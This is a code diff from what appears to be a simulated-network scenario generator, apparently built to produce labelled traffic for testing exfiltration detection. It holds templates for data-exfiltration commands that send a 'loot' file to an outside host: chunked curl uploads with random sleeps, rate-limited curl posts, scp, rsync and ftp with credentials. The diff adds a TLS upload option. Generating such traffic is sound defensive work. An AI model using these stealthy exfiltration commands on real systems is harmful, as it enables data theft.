@@ -24,9 +24,12 @@ const sending = (name: string, service: string, heldOut: boolean, port: number |
     const outside = world.pod('outside')
     const bytes = world.random.magnitude(150_000, most)
     const file = lootFile(world, attacker, bytes)
-    return exfiltration(name, attacker, outside, [tcp(attacker, outside, anyPort ? null : [port ?? world.settings.appPort])], command({ file, to: outside.address, bytes, world }), 40, helper ? [{ pod: outside, command: helper(outside) }] : [])
+    return exfiltration(name, attacker, outside, [tcp(attacker, outside, anyPort ? null : port === null ? [world.settings.appPort, world.settings.appTlsPort] : [port])], command({ file, to: outside.address, bytes, world }), 40, helper ? [{ pod: outside, command: helper(outside) }] : [])
   },
 })
+
+/** Where the application outside takes what is sent to it, in clear or over TLS. */
+const uploadTo = ({ random, settings }: World, host: string): string => random.chance(0.4) ? `-k https://${host}:${settings.appTlsPort}/up` : `http://${host}:${settings.appPort}/up`
 
 const kilobytes = (world: World, bytes: number) => Math.max(20, Math.round(bytes / 1000 / world.random.integer(2, 25)))
 
@@ -41,9 +44,9 @@ function dnsTunnel (world: World, tool: string, server: string, client: string, 
 export const DATA_EXFILTRATIONS: readonly Variant[] = [
   sending('curl chunks', 'http', false, null, 12_000_000, ({ file, to, bytes, world }) => {
     const chunk = Math.max(5000, Math.round(bytes / world.random.integer(5, 60)))
-    return `split -b ${chunk} ${file} ${file}.; for f in ${file}.*; do curl -s -o /dev/null --data-binary @$f http://${to}:${world.settings.appPort}/up; sleep ${world.random.magnitude(5, 150) / 100}; done`
+    return `split -a 3 -b ${chunk} ${file} ${file}.; for f in ${file}.*; do curl -s -o /dev/null --data-binary @$f ${uploadTo(world, to)}; sleep ${world.random.magnitude(5, 150) / 100}; done`
   }),
-  sending('curl post', 'http', false, null, 30_000_000, ({ file, to, bytes, world }) => `curl -s -o /dev/null --limit-rate ${kilobytes(world, bytes)}k --data-binary @${file} http://${to}:${world.settings.appPort}/up`),
+  sending('curl post', 'http', false, null, 30_000_000, ({ file, to, bytes, world }) => `curl -s -o /dev/null --limit-rate ${kilobytes(world, bytes)}k --data-binary @${file} ${uploadTo(world, to)}`),
   sending('scp out', 'ssh', false, 22, 20_000_000, ({ file, to, bytes, world }) => `scp -q -l ${kilobytes(world, bytes) * 8} ${file} alice@${to}:taken`),
   sending('rsync out', 'ssh', false, 22, 20_000_000, ({ file, to, bytes, world }) => `rsync -q --bwlimit=${kilobytes(world, bytes)} ${file} alice@${to}:taken2`),
   sending('ftp put', 'ftp', false, 21, 20_000_000, ({ file, to, bytes, world }) => `curl -s --limit-rate ${kilobytes(world, bytes)}k -T ${file} ftp://bob:letmein@${to}/taken3`, undefined, true),
